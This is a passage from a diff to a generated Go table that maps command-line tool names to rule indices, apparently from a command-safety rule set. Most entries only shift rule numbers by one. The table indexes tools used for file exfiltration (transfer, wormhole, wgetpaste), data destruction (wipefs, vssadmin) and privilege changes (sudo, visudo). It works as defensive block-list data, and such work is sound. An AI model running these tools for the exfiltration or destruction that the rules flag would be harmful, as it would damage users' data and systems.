 			nameEntry{
 				Name:    "stress-ng",
 				Program: -1,
-				Rules:   []uint16{438},
+				Rules:   []uint16{439},
 			},
 			nameEntry{
 				Name:    "strings",
 				Program: 5,
-				Rules:   []uint16{63},
+				Rules:   []uint16{64},
 			},
 			nameEntry{
 				Name:    "strip",
@@ -18445,7 +18461,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stripe",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 89, 184},
+				Rules:   []uint16{25, 26, 43, 90, 185},
 			},
 			nameEntry{
 				Name:    "stryker",
@@ -18466,7 +18482,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "su",
 				Program: 65,
-				Rules:   []uint16{405},
+				Rules:   []uint16{406},
 			},
 			nameEntry{
 				Name:    "subl",
@@ -18475,7 +18491,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sudo",
 				Program: 65,
-				Rules:   []uint16{406, 407},
+				Rules:   []uint16{407, 408},
 			},
 			nameEntry{
 				Name:    "sudoedit",
@@ -18493,22 +18509,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "supabase",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 52, 130, 184, 185, 187, 197, 256},
+				Rules:   []uint16{25, 26, 43, 53, 131, 185, 186, 188, 198, 257},
 			},
 			nameEntry{
 				Name:    "supervisorctl",
 				Program: 64,
-				Rules:   []uint16{24, 403, 439, 460},
+				Rules:   []uint16{24, 404, 440, 461},
 			},
 			nameEntry{
 				Name:    "surge",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "surreal",
 				Program: 59,
-				Rules:   []uint16{134, 144},
+				Rules:   []uint16{135, 145},
 			},
 			nameEntry{
 				Name:    "svelte-kit",
@@ -18521,7 +18537,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "svn",
 				Program: 51,
-				Rules:   []uint16{341},
+				Rules:   []uint16{342},
 			},
 			nameEntry{
 				Name:    "sw_vers",
@@ -18534,17 +18550,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "swaks",
 				Program: -1,
-				Rules:   []uint16{55, 366, 380},
+				Rules:   []uint16{56, 367, 381},
 			},
 			nameEntry{
 				Name:    "swapoff",
 				Program: 65,
-				Rules:   []uint16{427, 428},
+				Rules:   []uint16{428, 429},
 			},
 			nameEntry{
 				Name:    "swapon",
 				Program: 65,
-				Rules:   []uint16{427},
+				Rules:   []uint16{428},
 			},
 			nameEntry{
 				Name:    "swc",
@@ -18589,12 +18605,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sysadminctl",
 				Program: -1,
-				Rules:   []uint16{410, 467},
+				Rules:   []uint16{411, 468},
 			},
 			nameEntry{
 				Name:    "sysctl",
 				Program: 65,
-				Rules:   []uint16{426, 427},
+				Rules:   []uint16{427, 428},
 			},
 			nameEntry{
 				Name:    "system_profiler",
@@ -18603,17 +18619,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "systemctl",
 				Program: 65,
-				Rules:   []uint16{24, 403, 416, 420, 425, 427, 439, 479},
+				Rules:   []uint16{24, 404, 417, 421, 426, 428, 440, 480},
 			},
 			nameEntry{
 				Name:    "systemd-run",
 				Program: 65,
-				Rules:   []uint16{402},
+				Rules:   []uint16{403},
 			},
 			nameEntry{
 				Name:    "systemsetup",
 				Program: -1,
-				Rules:   []uint16{453, 467},
+				Rules:   []uint16{454, 468},
 			},
 			nameEntry{
 				Name:    "tac",
@@ -18626,7 +18642,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tailscale",
 				Program: 56,
-				Rules:   []uint16{25, 26, 51, 208, 367},
+				Rules:   []uint16{25, 26, 52, 209, 368},
 			},
 			nameEntry{
 				Name:    "tailwindcss",
@@ -18635,17 +18651,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "takeown",
 				Program: 65,
-				Rules:   []uint16{299, 301},
+				Rules:   []uint16{300, 302},
 			},
 			nameEntry{
 				Name:    "takeown.exe",
 				Program: -1,
-				Rules:   []uint16{301},
+				Rules:   []uint16{302},
 			},
 			nameEntry{
 				Name:    "talosctl",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "tap",
@@ -18662,32 +18678,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tar",
 				Program: 24,
-				Rules:   []uint16{53, 300, 397},
+				Rules:   []uint16{54, 301, 398},
 			},
 			nameEntry{
 				Name:    "tarsnap",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "tart",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "task",
 				Program: 46,
-				Rules:   []uint16{124, 125},
+				Rules:   []uint16{125, 126},
 			},
 			nameEntry{
 				Name:    "taskkill",
 				Program: 64,
-				Rules:   []uint16{416, 419, 457, 458, 479},
+				Rules:   []uint16{417, 420, 458, 459, 480},
 			},
 			nameEntry{
 				Name:    "taskkill.exe",
 				Program: -1,
-				Rules:   []uint16{457, 458},
+				Rules:   []uint16{458, 459},
 			},
 			nameEntry{
 				Name:    "tasklist",
@@ -18700,42 +18716,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tc",
 				Program: -1,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "tccli",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "tccutil",
 				Program: -1,
-				Rules:   []uint16{467},
+				Rules:   []uint16{468},
 			},
 			nameEntry{
 				Name:    "tcpdump",
 				Program: 56,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "tcsh",
 				Program: -1,
-				Rules:   []uint16{447, 448},
+				Rules:   []uint16{448, 449},
 			},
 			nameEntry{
 				Name:    "tctl",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "tea",
 				Program: 52,
-				Rules:   []uint16{25, 26, 188, 190},
+				Rules:   []uint16{25, 26, 189, 191},
 			},
 			nameEntry{
 				Name:    "teamcity",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "tectonic",
@@ -18748,12 +18764,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telebit",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "telegram-send",
 				Program: -1,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "teleport",
@@ -18762,7 +18778,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telinit",
 				Program: 65,
-				Rules:   []uint16{420},
+				Rules:   []uint16{421},
 			},
 			nameEntry{
 				Name:    "teller",
@@ -18772,37 +18788,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telnet",
 				Program: 56,
-				Rules:   []uint16{149},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "temporal",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "terminus",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "termux-clipboard-get",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "terraform",
 				Program: 62,
-				Rules:   []uint16{64, 150, 151, 152, 153, 154, 155, 156, 159},
+				Rules:   []uint16{65, 151, 152, 153, 154, 155, 156, 157, 160},
 			},
 			nameEntry{
 				Name:    "terragrunt",
 				Program: 62,
-				Rules:   []uint16{64, 150, 151, 152, 153, 154, 155, 156},
+				Rules:   []uint16{65, 151, 152, 153, 154, 155, 156, 157},
 			},
 			nameEntry{
 				Name:    "terramate",
 				Program: 62,
-				Rules:   []uint16{151},
+				Rules:   []uint16{152},
 			},
 			nameEntry{
 				Name: "test",
@@ -18834,7 +18850,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tftp",
 				Program: 57,
-				Rules:   []uint16{380, 381},
+				Rules:   []uint16{381, 382},
 			},
 			nameEntry{
 				Name:    "thor",
@@ -18851,7 +18867,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tilt",
 				Program: 62,
-				Rules:   []uint16{231},
+				Rules:   []uint16{232},
 			},
 			nameEntry{
 				Name:    "time",
@@ -18860,7 +18876,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "timedatectl",
 				Program: 65,
-				Rules:   []uint16{427, 453, 454},
+				Rules:   []uint16{428, 454, 455},
 			},
 			nameEntry{
 				Name:    "timeout",
@@ -18872,27 +18888,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "timeshift",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "tkn",
 				Program: -1,
-				Rules:   []uint16{192},
+				Rules:   []uint16{193},
 			},
 			nameEntry{
 				Name:    "tmutil",
 				Program: 65,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "tmux",
 				Program: 64,
-				Rules:   []uint16{475, 476},
+				Rules:   []uint16{476, 477},
 			},
 			nameEntry{
 				Name:    "tofu",
 				Program: 62,
-				Rules:   []uint16{64, 150, 151, 152, 153, 154, 155, 156, 159},
+				Rules:   []uint16{65, 151, 152, 153, 154, 155, 156, 157, 160},
 			},
 			nameEntry{
 				Name:    "tokei",
@@ -18932,26 +18948,26 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trae-cli",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "transfer",
 				Program: 57,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "transferwee",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "transporter",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:  "trap",
-				Rules: []uint16{482},
+				Rules: []uint16{483},
 			},
 			nameEntry{
 				Name:    "trash",
@@ -18964,12 +18980,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "travis",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "tree",
 				Program: 7,
-				Rules:   []uint16{417},
+				Rules:   []uint16{418},
 			},
 			nameEntry{
 				Name:    "trino",
@@ -18998,7 +19014,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trust",
 				Program: -1,
-				Rules:   []uint16{445, 465},
+				Rules:   []uint16{446, 466},
 			},
 			nameEntry{
 				Name:    "ts-node",
@@ -19015,12 +19031,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tshark",
 				Program: 56,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "tskill",
 				Program: -1,
-				Rules:   []uint16{458},
+				Rules:   []uint16{459},
 			},
 			nameEntry{
 				Name:    "tslint",
@@ -19053,12 +19069,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "turbo",
 				Program: 33,
-				Rules:   []uint16{124, 125},
+				Rules:   []uint16{125, 126},
 			},
 			nameEntry{
 				Name:    "turso",
 				Program: 59,
-				Rules:   []uint16{25, 26, 184, 202, 256},
+				Rules:   []uint16{25, 26, 185, 203, 257},
 			},
 			nameEntry{
 				Name:    "tusker",
@@ -19067,12 +19083,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "twilio",
 				Program: 62,
-				Rules:   []uint16{25, 26, 90, 184, 218},
+				Rules:   []uint16{25, 26, 91, 185, 219},
 			},
 			nameEntry{
 				Name:    "twine",
 				Program: -1,
-				Rules:   []uint16{52, 375},
+				Rules:   []uint16{53, 376},
 			},
 			nameEntry{
 				Name:    "ty",
@@ -19084,11 +19100,11 @@ var shipped = Set{
 			nameEntry{
 				Name:    "typeorm",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:  "typeset",
-				Rules: []uint16{484},
+				Rules: []uint16{485},
 			},
 			nameEntry{
 				Name:    "typos",
@@ -19101,7 +19117,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ufw",
 				Program: 65,
-				Rules:   []uint16{424},
+				Rules:   []uint16{425},
 			},
 			nameEntry{
 				Name:    "ugrep",
@@ -19116,7 +19132,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "umount",
 				Program: 65,
-				Rules:   []uint16{427, 428},
+				Rules:   []uint16{428, 429},
 			},
 			nameEntry{
 				Name:    "umzug",
@@ -19148,7 +19164,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "unison",
 				Program: 58,
-				Rules:   []uint16{289},
+				Rules:   []uint16{290},
 			},
 			nameEntry{
 				Name:    "unittest",
@@ -19168,7 +19184,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "unset",
-				Rules: []uint16{278, 480, 484},
+				Rules: []uint16{279, 481, 485},
 			},
 			nameEntry{
 				Name:    "unshare",
@@ -19181,7 +19197,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "unzip",
 				Program: 24,
-				Rules:   []uint16{397},
+				Rules:   []uint16{398},
 			},
 			nameEntry{
 				Name:    "unzstd",
@@ -19190,37 +19206,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "upctl",
 				Program: 62,
-				Rules:   []uint16{177, 256},
+				Rules:   []uint16{178, 257},
 			},
 			nameEntry{
 				Name:    "update-alternatives",
 				Program: 65,
-				Rules:   []uint16{427},
+				Rules:   []uint16{428},
 			},
 			nameEntry{
 				Name:    "update-ca-certificates",
 				Program: -1,
-				Rules:   []uint16{445, 465},
+				Rules:   []uint16{446, 466},
 			},
 			nameEntry{
 				Name:    "update-ca-trust",
 				Program: -1,
-				Rules:   []uint16{445, 465},
+				Rules:   []uint16{446, 466},
 			},
 			nameEntry{
 				Name:    "update-grub",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "update-initramfs",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "update-rc.d",
 				Program: 65,
-				Rules:   []uint16{403},
+				Rules:   []uint16{404},
 			},
 			nameEntry{
 				Name:    "updatedb",
@@ -19229,12 +19245,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "upstash",
 				Program: 62,
-				Rules:   []uint16{42, 184},
+				Rules:   []uint16{43, 185},
 			},
 			nameEntry{
 				Name:    "upsun",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "uptime",
@@ -19243,17 +19259,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "useradd",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "userdel",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "usermod",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "users",
@@ -19270,7 +19286,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uv",
 				Program: 43,
-				Rules:   []uint16{375, 386, 387},
+				Rules:   []uint16{376, 387, 388},
 			},
 			nameEntry{
 				Name:    "uvicorn",
@@ -19279,7 +19295,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uvx",
 				Program: 41,
-				Rules:   []uint16{386, 390},
+				Rules:   []uint16{387, 391},
 			},
 			nameEntry{
 				Name:    "v",
@@ -19292,7 +19308,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vagrant",
 				Program: 62,
-				Rules:   []uint16{157, 242},
+				Rules:   []uint16{158, 243},
 			},
 			nameEntry{
 				Name:    "vale",
@@ -19301,42 +19317,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "valkey-cli",
 				Program: 59,
-				Rules:   []uint16{108, 109, 113, 114, 148},
+				Rules:   []uint16{109, 110, 114, 115, 149},
 			},
 			nameEntry{
 				Name:    "vapor",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "vapor-cli",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "vastai",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "vault",
 				Program: 62,
-				Rules:   []uint16{33, 52, 198, 246},
+				Rules:   []uint16{33, 53, 199, 247},
 			},
 			nameEntry{
 				Name:    "vaultcmd",
 				Program: -1,
-				Rules:   []uint16{57},
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "vboxmanage",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "vc",
 				Program: 62,
-				Rules:   []uint16{41, 42, 184, 200, 202, 203},
+				Rules:   []uint16{42, 43, 185, 201, 203, 204},
 			},
 			nameEntry{
 				Name:    "vcpkg",
@@ -19349,42 +19365,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vdo",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "vegeta",
 				Program: 37,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "vela",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "velero",
 				Program: 62,
-				Rules:   []uint16{231, 256, 257},
+				Rules:   []uint16{232, 257, 258},
 			},
 			nameEntry{
 				Name:    "vercel",
 				Program: 62,
-				Rules:   []uint16{25, 26, 41, 42, 52, 159, 184, 200, 202, 203},
+				Rules:   []uint16{25, 26, 42, 43, 53, 160, 185, 201, 203, 204},
 			},
 			nameEntry{
 				Name:    "vgchange",
 				Program: -1,
-				Rules:   []uint16{428},
+				Rules:   []uint16{429},
 			},
 			nameEntry{
 				Name:    "vgreduce",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "vgremove",
 				Program: 65,
-				Rules:   []uint16{283, 298},
+				Rules:   []uint16{284, 299},
 			},
 			nameEntry{
 				Name:    "vgs",
@@ -19397,7 +19413,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "victoria-metrics",
 				Program: -1,
-				Rules:   []uint16{145},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "view",
@@ -19410,12 +19426,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vipw",
 				Program: -1,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "virsh",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "virt-install",
@@ -19424,7 +19440,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "visudo",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "vite",
@@ -19445,7 +19461,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vmrun",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "vmstat",
@@ -19458,17 +19474,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vsce",
 				Program: -1,
-				Rules:   []uint16{375, 376},
+				Rules:   []uint16{376, 377},
 			},
 			nameEntry{
 				Name:    "vssadmin",
 				Program: 65,
-				Rules:   []uint16{257, 302},
+				Rules:   []uint16{258, 303},
 			},
 			nameEntry{
 				Name:    "vssadmin.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "vtexplain",
@@ -19485,12 +19501,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vultr",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177},
+				Rules:   []uint16{25, 26, 178},
 			},
 			nameEntry{
 				Name:    "vultr-cli",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177, 205, 256},
+				Rules:   []uint16{25, 26, 178, 206, 257},
 			},
 			nameEntry{
 				Name:    "vulture",
@@ -19514,12 +19530,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wal-e",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "wal-g",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "wandb",
@@ -19560,17 +19576,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "waypoint",
 				Program: 62,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "wbadmin",
 				Program: 65,
-				Rules:   []uint16{257, 302},
+				Rules:   []uint16{258, 303},
 			},
 			nameEntry{
 				Name:    "wbadmin.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "wc",
@@ -19587,17 +19603,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "weaviate",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "web-ext",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "webfsd",
 				Program: -1,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "webpack",
@@ -19610,27 +19626,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "weed",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "werf",
 				Program: -1,
-				Rules:   []uint16{231, 247},
+				Rules:   []uint16{232, 248},
 			},
 			nameEntry{
 				Name:    "wevtutil",
 				Program: -1,
-				Rules:   []uint16{277, 423, 461},
+				Rules:   []uint16{278, 424, 462},
 			},
 			nameEntry{
 				Name:    "wezterm",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "wg",
 				Program: 56,
-				Rules:   []uint16{44},
+				Rules:   []uint16{45},
 			},
 			nameEntry{
 				Name:    "wg-quick",
@@ -19639,7 +19655,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wget",
 				Program: 54,
-				Rules:   []uint16{382},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "wget2",
@@ -19648,7 +19664,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wgetpaste",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name: "whereis",
@@ -19676,22 +19692,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "windsurf",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "winget",
 				Program: 45,
-				Rules:   []uint16{444, 468},
+				Rules:   []uint16{445, 469},
 			},
 			nameEntry{
 				Name:    "wipe",
 				Program: 23,
-				Rules:   []uint16{284},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "wipefs",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "wireit",
@@ -19708,22 +19724,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wl-paste",
 				Program: 65,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "wmic",
 				Program: 65,
-				Rules:   []uint16{257, 302},
+				Rules:   []uint16{258, 303},
 			},
 			nameEntry{
 				Name:    "wmic.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "woodpecker-cli",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "workmux",
@@ -19732,27 +19748,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "workos",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "wormhole",
 				Program: 57,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "wp",
 				Program: 49,
-				Rules:   []uint16{132},
+				Rules:   []uint16{133},
 			},
 			nameEntry{
 				Name:    "wrangler",
 				Program: 62,
-				Rules:   []uint16{25, 26, 42, 52, 159, 184, 187, 200, 204, 365, 380},
+				Rules:   []uint16{25, 26, 43, 53, 160, 185, 188, 201, 205, 366, 381},
 			},
 			nameEntry{
 				Name:    "wrk",
 				Program: 37,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "wscat",
@@ -19761,17 +19777,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wscript",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "wscript.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "wsl",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "wslpath",
@@ -19780,7 +19796,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "wtype",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "xargs",
@@ -19789,12 +19805,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xata",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "xattr",
 				Program: 23,
-				Rules:   []uint16{299},
+				Rules:   []uint16{300},
 			},
 			nameEntry{
 				Name:    "xbps-install",
@@ -19803,12 +19819,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xbps-remove",
 				Program: -1,
-				Rules:   []uint16{468},
+				Rules:   []uint16{469},
 			},
 			nameEntry{
 				Name:    "xclip",
 				Program: 65,
-				Rules:   []uint16{370},
+				Rules:   []uint16{371},
 			},
 			nameEntry{
 				Name:    "xcodebuild",
@@ -19817,7 +19833,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xcrun",
 				Program: 33,
-				Rules:   []uint16{372},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "xdg-open",
@@ -19826,12 +19842,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xdotool",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "xe",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "xelatex",
@@ -19840,7 +19856,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xh",
 				Program: 55,
-				Rules:   []uint16{382},
+				Rules:   []uint16{383},
 			},
 			nameEntry{
 				Name:    "xhs",
@@ -19873,7 +19889,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xsel",
 				Program: 65,
-				Rules:   []uint16{370},
+				Rules:   []uint16{371},
 			},
 			nameEntry{
 				Name:    "xsv",
@@ -19882,7 +19898,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "xtrabackup",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "xxd",
@@ -19907,7 +19923,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yarn",
 				Program: 40,
-				Rules:   []uint16{43, 120, 121, 122, 123, 124, 125, 127, 128, 131, 158, 186, 187, 375, 376, 386, 387, 396},
+				Rules:   []uint16{44, 121, 122, 123, 124, 125, 126, 128, 129, 132, 159, 187, 188, 376, 377, 387, 388, 397},
 			},
 			nameEntry{
 				Name:    "yarn-typeorm",
@@ -19924,12 +19940,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yc",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "ydotool",
 				Program: -1,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name: "yes",
@@ -19953,12 +19969,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "yum",
 				Program: 45,
-				Rules:   []uint16{444},
+				Rules:   []uint16{445},
 			},
 			nameEntry{
 				Name:    "zappa",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "zcat",
@@ -19967,7 +19983,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zeabur",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "zed",
@@ -19976,17 +19992,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "zellij",
 				Program: 64,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "zenml",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
